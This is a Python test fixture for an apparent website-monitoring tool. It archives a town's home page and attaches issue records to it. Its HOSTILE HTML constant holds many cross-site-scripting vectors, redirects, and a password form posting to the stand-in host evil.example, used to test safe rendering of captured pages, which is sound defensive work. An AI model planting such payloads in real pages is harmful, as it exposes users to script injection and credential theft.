"""An office with a data folder: the visit of the eastern town, whose pages hold every trick that markup knows."""

from __future__ import annotations

from hashlib import sha256
from pathlib import Path

from sqlalchemy import update

from checks.model.captures import Coverage, LinkProbe, Look
from checks.model.pages import Capture, Page, PageFacts, PageKind
from checks.model.registry import Unit
from results.ledger import tables
from results.ledger.engine import Ledger
from results.visits.writer import VisitWriter
from tests.results.console.office import EAST, SCRIPT, SITES, Office, opened
from tests.results.making import DAY, NOW

VISIT, OLDER = "visits/000007-1/east.visit", "visits/000006-1/east.visit"
HOME = SITES[0].home
PHONE = "13812345678"
HOSTILE = f"""<!doctype html><html><head><title>首页{SCRIPT}</title><base href="{HOME}sub/">
<meta http-equiv="refresh" content="0;url=http://evil.example/"><link rel=stylesheet href=http://evil.example/a.css>
<style>body {{ background: url(http://evil.example/b.png) }}</style>{SCRIPT}</head>
<body onload="alert(2)" style="position:fixed;inset:0;background:url(http://evil.example/c.png)">
<svg onload="alert(3)"><script>alert(4)</script><a href="javascript:alert(5)">x</a></svg>
<p>联系电话 138<b>1234</b>5678 请拨打</p><img src=http://evil.example/d.png onerror=alert(6) alt="标志">
<a href="javascript:alert(7)">点我</a> <a href="http://evil.example/" target=_top>外链</a>
<a href="../gone.html">去不了的地方</a> &lt;script&gt;alert(8)&lt;/script&gt;
<form action="http://evil.example/"><input name=password><button formaction="javascript:alert(9)">交</button></form>
<iframe src="http://evil.example/"></iframe><object data="http://evil.example/"></object><embed src="http://evil.example/">
<math><mtext><table><mglyph><style><img src=x onerror=alert(10)></style></mglyph></table></mtext></math>
<table><tr><td colspan=2 background="http://evil.example/e.png"
>国务院关于<font color=red>加强</font>政府网站 建设的通知</td></tr></table>
<mark id="here">假的</mark><div id=here></div></body></html>"""


def capture(url: str, body: bytes, *, charset: str = "utf-8", digest: str = "", changed: bool = True) -> Capture:
    """A page that answered 200; with no `body` the server said that nothing had changed."""
    told = digest or sha256(body).hexdigest()
    page = Page(url, 200, NOW, digest=told, size=len(body), content_type="text/html", changed=changed, family=6)
    facts = PageFacts(url=url, title=f"题{SCRIPT}", kind=PageKind.OTHER, charset=charset)
    headers = (("Content-Type", "text/html"), ("X-Odd", SCRIPT), ("Set-Cookie", f"a={SCRIPT}"))
    return Capture(page, facts, LinkProbe(url, NOW, status=200, content_type="text/html"), body, headers)


def visit(path: Path, *seen: Capture | LinkProbe, run: int = 7) -> Path:
    """A closed visit of the eastern town."""
    made = VisitWriter(path, site=SITES[0], unit=Unit(EAST), columns=(), moment=NOW, run=run)
    for one in seen:
        made.keep(one)
    return made.close(Coverage(known=len(seen), asked=len(seen), pages=len(seen)))


def asked(url: str) -> LinkProbe:
    """An address that was asked three times, a while apart, and never opened."""
    looks = tuple(Look(NOW + DAY * n, "GET", 404, None, 1.5) for n in range(3))
    return LinkProbe(url, NOW, status=404, looks=3, rounds=2, history=looks, failing_since=NOW - DAY)


def point(ledger: Ledger, number: int, *, visit_name: str = VISIT, **finding: object) -> None:
    """Lets an issue say something else, of the visit that is named."""
    table = tables.issues
    with ledger.begin() as connection:
        row = connection.execute(table.select().where(table.c.id == number)).mappings().one()
        changed = {"finding": {**row["finding"], **finding}, "visit": visit_name}
        connection.execute(update(table).where(table.c.id == number).values(changed))


def archive_of(office: Office, folder: Path, *more: Capture | LinkProbe, body: bytes = b"") -> tuple[Office, int]:
    """The office with a data folder in which the home page of the eastern town is archived, and an issue on it."""
    visit(folder / VISIT, capture(HOME, body or HOSTILE.encode()), *more)
    number = office.numbers(SITES[0].key)[0]
    told = {
        "at": HOME,
        "found_on": HOME,
        "places": [],
        "excerpt": "…关于加强【政府网站】建设的…",
        "data": {},
        "key": ["a"],
    }
    point(office.ledger, number, **told)
    return opened(office.ledger, data=folder), number
